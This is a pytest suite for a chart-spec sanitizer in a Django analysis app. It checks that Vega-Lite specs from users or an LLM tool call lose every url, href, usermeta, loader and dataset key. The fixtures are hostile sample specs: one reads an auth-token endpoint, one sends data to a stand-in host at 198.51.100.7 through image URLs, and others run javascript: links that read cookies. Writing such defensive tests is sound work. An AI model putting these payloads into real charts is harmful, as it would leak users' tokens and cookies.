"""Charts load nothing: every Vega-Lite spec, whoever wrote it, is cleaned on the server before it is stored
or sent — no url, href, usermeta, loader or datasets at any depth, no data but the rows the server attached."""

import copy
import json

import pytest

from analyzer import conf
from analyzer.agent.plots import PlotInvalid, plot_spec_build, spec_clean
from analyzer.tests.conftest import ask
from analyzer.tests.fake_openai import FakeOpenAI, tool_turn

ROWS = [{"symbol": "AAPL", "total": 29, "url": "https://example.org/keep-me-this-is-data"},
        {"symbol": "TSLA", "total": 35, "url": "x"}]
COLUMNS = ["symbol", "total", "url"]

LOOKUP_TOKEN = {
    "mark": "bar",
    "transform": [
        {"lookup": "symbol", "from": {"data": {"url": "/api/auth/token/"}, "key": "symbol", "fields": ["token"]}},
        {"calculate": "datum.total * 2", "as": "double"},
    ],
    "encoding": {"x": {"field": "symbol", "type": "nominal"}, "y": {"field": "double", "type": "quantitative"}},
}
IMAGE_OUTSIDE = {
    "mark": {"type": "image", "width": 20, "height": 20, "url": "http://198.51.100.7/static.png"},
    "transform": [{"calculate": "'http://198.51.100.7/leak?s=' + datum.symbol", "as": "img"}],
    "encoding": {"x": {"field": "symbol", "type": "nominal"}, "y": {"field": "total", "type": "quantitative"},
                 "url": {"field": "img", "type": "nominal"}},
}
USERMETA = {
    "mark": "bar",
    "usermeta": {"embedOptions": {"loader": {"baseURL": "http://198.51.100.7/"}, "config": "/api/auth/token/",
                                  "patch": "http://198.51.100.7/patch.json", "actions": True}},
    "encoding": {"x": {"field": "symbol", "type": "nominal"}, "y": {"field": "total", "type": "quantitative"}},
}
HREF_JS = {
    "mark": {"type": "bar", "href": "javascript:alert(document.cookie)"},
    "transform": [{"calculate": "'javascript:fetch(\"/api/auth/token/\")'", "as": "link"}],
    "encoding": {"x": {"field": "symbol", "type": "nominal"}, "y": {"field": "total", "type": "quantitative"},
                 "href": {"field": "link", "type": "nominal"}},
}
NESTED = {
    "datasets": {"stolen": [{"a": 1}]},
    "data": {"url": "/api/auth/token/", "format": {"type": "json"}},
    "layer": [
        {"data": {"name": "stolen"}, "mark": "point",
         "encoding": {"x": {"field": "symbol", "type": "nominal"}, "y": {"field": "total", "type": "quantitative"}}},
        {"data": {"url": "http://198.51.100.7/d.csv"}, "mark": "rule",
         "encoding": {"y": {"field": "total", "type": "quantitative"}}},
    ],
    "config": {"loader": {"baseURL": "http://198.51.100.7/"}, "mark": {"href": "http://198.51.100.7/"}},
}
HOSTILE = {"lookup-token": LOOKUP_TOKEN, "image-outside": IMAGE_OUTSIDE, "usermeta": USERMETA,
           "href-javascript": HREF_JS, "nested-data": NESTED}


def keys_anywhere(node, out=None):
    out = set() if out is None else out
    if isinstance(node, dict):
        for key, value in node.items():
            out.add(key)
            keys_anywhere(value, out)
    elif isinstance(node, list):
        for value in node:
            keys_anywhere(value, out)
    return out


def spec_without_rows(spec):
    return {k: v for k, v in spec.items() if k != "data"}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_specs_keep_nothing_that_loads(name):
    spec = HOSTILE[name]
    original = copy.deepcopy(spec)
    cleaned = spec_clean(spec, rows=ROWS)
    assert spec == original  # the input is not changed in place
    rest = spec_without_rows(cleaned)
    assert not keys_anywhere(rest) & {"url", "href", "usermeta", "datasets", "loader", "data", "$schema"}
    text = json.dumps(rest)
    # Whatever could be fetched is gone (strings left in `calculate` are inert: nothing reads them as URLs).
    assert not any(part in text for part in ("static.png", "d.csv", "patch.json", "baseURL", "embedOptions"))
    assert cleaned["data"] == {"values": ROWS}  # only the server's rows; a data column named url stays


def test_lookup_reading_another_source_is_dropped_other_transforms_stay():
    cleaned = spec_clean(LOOKUP_TOKEN, rows=ROWS)
    assert cleaned["transform"] == [{"calculate": "datum.total * 2", "as": "double"}]
    selection = {"lookup": "symbol", "from": {"param": "pick", "key": "symbol"}}
    assert spec_clean({"mark": "bar", "transform": [selection]}, rows=[])["transform"] == [selection]


def test_a_stored_spec_keeps_only_its_inline_rows():
    stored = {"mark": "bar", "data": {"values": ROWS, "url": "/api/auth/token/", "format": {"type": "csv"}}}
    assert spec_clean(stored) == {"mark": "bar", "data": {"values": ROWS}}
    assert spec_clean({"mark": "bar", "data": {"url": "/api/auth/token/"}}) == {"mark": "bar", "data": {"values": []}}


@pytest.mark.parametrize("name", ["lookup-token", "image-outside", "usermeta", "href-javascript"])
def test_built_charts_are_clean_and_valid(name):
    full = plot_spec_build(spec=HOSTILE[name], rows=ROWS, columns=COLUMNS + ["double", "img", "link"], title="t")
    rest = spec_without_rows(full)
    assert not keys_anywhere(rest) & {"url", "href", "usermeta", "datasets", "loader", "data"}
    assert full["data"] == {"values": ROWS}
    assert full["$schema"].startswith("https://vega.github.io/schema/vega-lite/")


def test_not_an_object_and_too_large_specs_are_refused():
    with pytest.raises(PlotInvalid, match="JSON object"):
        spec_clean(["mark"])
    big = {"mark": "bar", "description": "x" * (conf.PLOT_SPEC_MAX_BYTES + 1)}
    with pytest.raises(PlotInvalid, match="too large"):
        plot_spec_build(spec=big, rows=ROWS, columns=COLUMNS, title="t")


TOTALS_SQL = "SELECT symbol, sum(qty) AS total FROM data GROUP BY 1 ORDER BY 2 DESC"


@pytest.mark.django_db
def test_an_llm_providers_hostile_chart_is_stored_clean(trades_session, user, monkeypatch):
    monkeypatch.setattr(conf, "LLM_PROVIDER", "openai")
    turns = [
        tool_turn(("create_plot", {"title": "Totals", "sql": TOTALS_SQL, "vega_lite_spec": USERMETA})),
        tool_turn(("create_plot", {"title": "Links", "sql": TOTALS_SQL, "vega_lite_spec": HREF_JS})),
        tool_turn(("create_plot", {"title": "Images", "sql": TOTALS_SQL, "vega_lite_spec": IMAGE_OUTSIDE})),
        tool_turn(("finish", {})),
    ]
    with FakeOpenAI(turns) as server:
        monkeypatch.setattr(conf, "OPENAI_BASE_URL", server.url)
        messages = ask(trades_session, user, "Chart the totals")
    plots = [m for m in messages if m.kind == "plot"]
    assert len(plots) == 3
    for plot in plots:
        spec = plot.data["vega_lite_spec"]
        assert not keys_anywhere(spec_without_rows(spec)) & {"url", "href", "usermeta", "loader", "data"}
        assert spec["data"]["values"][0] == {"symbol": "TSLA", "total": 35}


@pytest.mark.django_db
def test_the_offline_analysts_charts_are_clean(trades_session, user):
    messages = ask(trades_session, user, "sum of qty by symbol")
    plot = next(m for m in messages if m.kind == "plot")
    assert not keys_anywhere(spec_without_rows(plot.data["vega_lite_spec"])) & {"url", "href", "usermeta", "data"}


@pytest.mark.django_db
def test_the_migration_cleans_specs_stored_before(trades_session):
    import importlib

    from django.apps import apps

    from analyzer.models import Message

    hostile = dict(IMAGE_OUTSIDE, data={"values": ROWS, "url": "/api/auth/token/"},
                   **{"$schema": "https://vega.github.io/schema/vega-lite/v6.json"})
    stored = Message.objects.create(session=trades_session, seq=999, kind="plot",
                                    data={"title": "old", "sql": "SELECT 1", "vega_lite_spec": hostile})
    migration = importlib.import_module("analyzer.migrations.0003_clean_stored_plot_specs")
    migration.clean_plots(apps, None)
    spec = Message.objects.get(pk=stored.pk).data["vega_lite_spec"]
    assert not keys_anywhere(spec_without_rows(spec)) & {"url", "href", "usermeta"}
    assert spec["data"] == {"values": ROWS} and spec["$schema"].endswith("v6.json")
    assert Message.objects.get(pk=stored.pk).data["title"] == "old"
